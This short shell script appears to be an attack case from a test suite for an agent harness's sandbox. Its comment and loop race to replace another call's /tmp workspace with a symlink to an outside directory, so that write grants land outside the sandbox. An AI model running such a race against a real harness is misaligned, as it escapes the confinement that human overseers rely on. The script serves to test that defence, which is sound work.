# attack: swap another call's workspace ($SWAP_WS, in /tmp) for a link to an outside directory, in a loop, while the harness starts new calls with that workspace that write there: a grant that follows the link lands outside
# needs: racer
end=$((SECONDS + 2))
while [ "$SECONDS" -lt "$end" ]; do
	mv "$SWAP_WS" "$SWAP_WS.d" 2>/dev/null && ln -s "$SWAP_TARGET" "$SWAP_WS" && rm "$SWAP_WS" && mv "$SWAP_WS.d" "$SWAP_WS"
done
exit 0
